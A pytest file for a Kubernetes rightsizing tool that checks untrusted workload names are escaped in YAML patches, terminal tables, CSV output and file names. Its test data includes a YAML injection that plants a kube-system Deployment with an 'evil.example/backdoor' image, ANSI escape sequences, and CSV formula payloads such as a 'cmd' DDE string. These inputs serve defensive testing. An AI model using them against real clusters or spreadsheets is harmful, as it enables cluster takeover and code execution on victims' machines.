"""Untrusted names (issue 15, items 1-3, 5, 11): YAML comments, terminal cells, CSV cells, file names.

Names reach kubetune from import files, Prometheus labels and API servers. They are kept as they
are, and escaped at every edge: a patch holds exactly the intended object and fields whatever
the names, a terminal shows markup and escapes literally, a spreadsheet never runs a cell.
"""

from __future__ import annotations

import io
import shutil
import subprocess

import polars as pl
import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from analyzer.sanity import clean_names, control_rows, unusual_names
from analyzer.snapshot import Snapshot
from analyzer.untrusted import csv_safe, terminal, visible
from kubetune.tables import render
from recommenders.patches import MAX_NAME, _slug, workload_patch, write_patches
from recommenders.record import Evidence, Recommendation, RecommendationSet, Target
from tests.support.cli_helpers import run_cli
from tests.support.tiny import tiny_snapshot

INJECTION = ("app\n---\napiVersion: apps/v1\nkind: Deployment\nmetadata: {name: coredns, namespace: kube-system}\n"
             "spec: {template: {spec: {containers: [{name: x, image: evil.example/backdoor}]}}}\n# ")


def _rec(ns: str, workload: str, container: str, reason: str = "why", kind: str = "Deployment") -> Recommendation:
    return Recommendation(
        target=Target(ns, kind, workload, container), kind="rightsize", resource="memory",
        current_request=2.0**30, proposed_request=2.0**29, current_limit=2.0**30, proposed_limit=2.0**29,
        monthly_saving_usd=1.5, risk=0.01, confidence=0.8,
        evidence=Evidence(reason=reason, notes=(f"note about {workload}",), observed={"peak": 2.0**28}),
        pod_spec_patch={"containers": [{"name": container, "resources": {
            "requests": {"memory": "512Mi"}, "limits": {"memory": "512Mi"}}}]},
    )


def _documents(path) -> list:
    return [d for d in yaml.safe_load_all(path.read_text(encoding="utf-8")) if d is not None]


# -- 1. YAML injection through names in patch comments ------------------------------------------


def test_a_name_cannot_inject_an_object_into_the_patch(tmp_path):
    rec = _rec("shop", "web", INJECTION, reason=INJECTION)
    written = write_patches(RecommendationSet([rec]), tmp_path / "p")
    assert len(written.files) == 1
    docs = _documents(written.files[0])
    assert docs == [workload_patch("Deployment", "shop", "web", rec.pod_spec_patch)]
    text = written.files[0].read_text(encoding="utf-8")
    header = text[: text.index("apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web")]
    assert all(line.startswith("#") for line in header.splitlines())


@pytest.mark.skipif(not shutil.which("kubectl"), reason="kubectl not installed")
def test_kustomize_builds_only_the_intended_object(tmp_path):
    base = tmp_path / "base"
    base.mkdir()
    deployment = {"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "web", "namespace": "shop"},
                  "spec": {"selector": {"matchLabels": {"app": "web"}}, "template": {
                      "metadata": {"labels": {"app": "web"}},
                      "spec": {"containers": [{"name": INJECTION, "image": "shop/web:1"}]}}}}
    (base / "web.yaml").write_text(yaml.safe_dump(deployment), encoding="utf-8")
    (base / "kustomization.yaml").write_text("resources: [web.yaml]\n", encoding="utf-8")
    write_patches(RecommendationSet([_rec("shop", "web", INJECTION, reason=INJECTION)]), tmp_path / "p", base="../base")
    built = subprocess.run(["kubectl", "kustomize", str(tmp_path / "p")], capture_output=True, text=True, timeout=60)
    assert built.returncode == 0, built.stderr
    objects = [d for d in yaml.safe_load_all(built.stdout) if d]
    assert [(o["kind"], o["metadata"]["namespace"], o["metadata"]["name"]) for o in objects] == [
        ("Deployment", "shop", "web")]
    container = objects[0]["spec"]["template"]["spec"]["containers"]
    assert container == [{"name": INJECTION, "image": "shop/web:1",
                          "resources": {"requests": {"memory": "512Mi"}, "limits": {"memory": "512Mi"}}}]


NAMES = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), min_size=1, max_size=80)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.tuples(NAMES, NAMES, NAMES), min_size=1, max_size=4, unique_by=lambda t: (t[0], t[1])))
def test_any_names_give_exactly_the_intended_patches(tmp_path_factory, names):
    out = tmp_path_factory.mktemp("p") / "patches"
    recs = [_rec(ns, wl, c, reason=f"{ns} {wl} {c}") for ns, wl, c in names]
    written = write_patches(RecommendationSet(recs), out)
    assert len(written.files) == len(names) == len(set(written.files))
    built = {}
    for f in written.files:
        assert len(f.name.encode()) <= MAX_NAME + 5 and len(f.parent.name.encode()) <= MAX_NAME
        text = f.read_text(encoding="utf-8")
        header, _, body = text.partition("\napiVersion: ")
        assert all(line.startswith("# ") and not any(ch in line for ch in "\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029")
                   for line in header.splitlines())
        (doc,) = _documents(f)
        meta = doc["metadata"]
        built[(meta["namespace"], meta["name"])] = doc
    assert {(ns, wl) for ns, wl, _ in names} == set(built)
    for ns, wl, c in names:
        assert built[(ns, wl)] == workload_patch("Deployment", ns, wl, _rec(ns, wl, c).pod_spec_patch)
    top = yaml.safe_load((out / "kustomization.yaml").read_text(encoding="utf-8"))  # the component layout
    listed = [out / c / p["path"] for c in top["components"]
              for p in yaml.safe_load((out / c / "kustomization.yaml").read_text(encoding="utf-8"))["patches"]]
    assert sorted(listed) == sorted(written.files)


# -- 11. Injective, bounded patch file names ----------------------------------------------------


def test_patch_file_names_are_injective_and_bounded(tmp_path):
    recs = [_rec("a--deployment--b", "c", "app"), _rec("a", "b--deployment--c", "app"),
            _rec("shop", "w" * 253, "app"), _rec("shop", "web", "app")]
    written = write_patches(RecommendationSet(recs), tmp_path / "p")
    names = [f.relative_to(tmp_path / "p").as_posix() for f in written.files]
    assert len(names) == len(set(names)) == 4
    assert all(len(part) <= MAX_NAME + 5 for n in names for part in n.split("/"))
    assert "namespaces/shop/deployment--web.yaml" in names  # plain Kubernetes names stay readable
    assert sorted(p.relative_to(tmp_path / "p").as_posix() for p in (tmp_path / "p").rglob("*.yaml")
                  if p.name != "kustomization.yaml") == sorted(names)
    assert _slug("a", "Deployment", "b") != _slug("a", "deployment", "b")
    assert _slug("a", "Deployment", "b") == "a--deployment--b"


# -- 2. Rich markup and control characters in terminal cells and messages -----------------------


def test_terminal_cells_show_markup_and_escapes_literally():
    df = pl.DataFrame({"workload": ["[/]", "[link=http://evil.example]x[/link]", "a\x1b[2Jb", "[bold]"],
                       "value": [1.0, 2.0, 3.0, 4.0]})
    text = render(df, title="[/] title", width=200)
    assert "\x1b[2J" not in text and "\\x1b[2J" in text
    assert "[/]" in text and "[link=http://evil.example]x[/link]" in text and "[bold]" in text
    assert "\x1b]8;" not in text  # no terminal hyperlink
    assert terminal("a\nb[x]") == "a\\nb\\[x]" and visible("\u2028") == "\\u2028"


def _weird_snapshot(tmp_path, names: dict[str, str]):
    snap = tiny_snapshot(steps=400)

    def rename(df):
        return df.with_columns(pl.col(c).cast(pl.String).replace(names)
                               for c in ("namespace", "workload", "container") if c in df.columns)

    frames = {n: rename(getattr(snap, n)) for n in ("usage", "containers", "workloads", "nodes", "events")}
    return Snapshot.build(snap.manifest, **frames).write(tmp_path / "weird")


MARKUP = {"web": "[/]", "shop": "[link=http://evil.example]shop", "app": "=HYPERLINK(\"http://evil.example\")",
          "server": "@SUM(1)", "infer": "+cmd|' /C calc'!A0"}


@pytest.fixture(scope="module")
def weird(tmp_path_factory):
    return _weird_snapshot(tmp_path_factory.mktemp("weird"), MARKUP)


@pytest.mark.parametrize("command", [["recommend"], ["forecast"], ["cost", "--by", "workload"], ["info"]])
def test_markup_names_do_not_crash_tables(weird, command):
    result = run_cli(*command, weird)
    assert result.code == 0, result.err
    assert "Traceback" not in result.err and "internal error" not in result.err
    assert "\x1b" not in result.out
    if command[0] != "info":
        assert "[/]" in result.out or "[link=http://evil.example]" in result.out


def test_error_handlers_show_markup_and_escapes_literally(capsys):
    from analyzer.errors import InputError
    from kubetune import cli

    for exc, code in ((InputError("bad name [/] and \x1b[2J here"), 2), (ValueError("[/] at [link=x]y"), 1)):
        def boom(exc=exc):
            raise exc

        cli.app.command("boom-test")(boom)
        try:
            rc = cli.main(["boom-test"])
        finally:
            cli.app.registered_commands.pop()
        err = capsys.readouterr().err
        assert rc == code, err
        assert len(err.strip().splitlines()) == 1 and "Traceback" not in err
        assert "[/]" in err and "\x1b" not in err.replace("\\x1b", "")


# -- 3. CSV formula injection -------------------------------------------------------------------


@pytest.mark.parametrize("command", [["recommend"], ["forecast"], ["cost", "--by", "workload"]])
def test_csv_text_cells_cannot_be_formulas(weird, command):
    result = run_cli(*command, weird, "--format", "csv")
    assert result.code == 0, result.err
    frame = pl.read_csv(io.StringIO(result.out), infer_schema=False)
    text_columns = [c for c in ("namespace", "workload", "container") if c in frame.columns]
    cells = [v for c in text_columns for v in frame.get_column(c).drop_nulls().to_list()]
    assert cells and not [v for v in cells if v[:1] in ("=", "+", "-", "@")]
    assert any(v.startswith("'=HYPERLINK") or v.startswith("'+cmd") or v.startswith("'@SUM") for v in cells)


def test_csv_numbers_are_untouched():
    df = pl.DataFrame({"name": ["=1+1", "-x", "ok", None], "value": [-1.5, 2.0, -3.0, None]})
    safe = csv_safe(df)
    assert safe.get_column("name").to_list() == ["'=1+1", "'-x", "ok", None]
    assert safe.get_column("value").to_list() == [-1.5, 2.0, -3.0, None]


# -- 5. Names at the collector: warn with counts, refuse only control characters ----------------


def _import(tmp_path, *rows: str):
    usage = tmp_path / "u.csv"
    usage.write_text("timestamp,namespace,workload_kind,workload,pod,container,resource,value\n"
                     + "".join(f"2026-11-01T00:{5 * i:02d}:00Z,ns,Deployment,{r}\n" for i, r in enumerate(rows)),
                     encoding="utf-8")
    return run_cli("import", usage, "--out", tmp_path / "snap")


def test_names_outside_kubernetes_rules_are_kept_with_a_counted_warning(tmp_path):
    result = _import(tmp_path, "VM_123,VM_123-a,App,cpu,0.5", "VM_123,VM_123-a,App,cpu,0.6")
    assert result.code == 0, result.err
    assert "3 name(s) do not follow Kubernetes naming rules" in result.err
    from analyzer.snapshot import load_snapshot

    assert set(load_snapshot(tmp_path / "snap").usage.get_column("workload").cast(str)) == {"VM_123"}


def test_control_characters_in_names_are_refused_at_import_and_dropped_elsewhere(tmp_path):
    result = _import(tmp_path, "web,web-a,app,cpu,0.5", '"we\x1b[2Jb",web-a,app,cpu,0.6')
    assert result.code == 2 and "control character" in result.err and "line 3" in result.err
    assert not (tmp_path / "snap").exists() and "Traceback" not in result.err
    frames, warnings = clean_names({"usage": pl.DataFrame({"pod": ["a", "b\nc", "d"]})})
    assert frames["usage"].get_column("pod").to_list() == ["a", "d"] and "dropped 1 row(s)" in warnings[0]
    assert control_rows(pl.DataFrame({"pod": ["ok"]})).to_list() == [False]
    assert unusual_names(pl.DataFrame({"pod": ["ok-1", "a.b"]})) is None
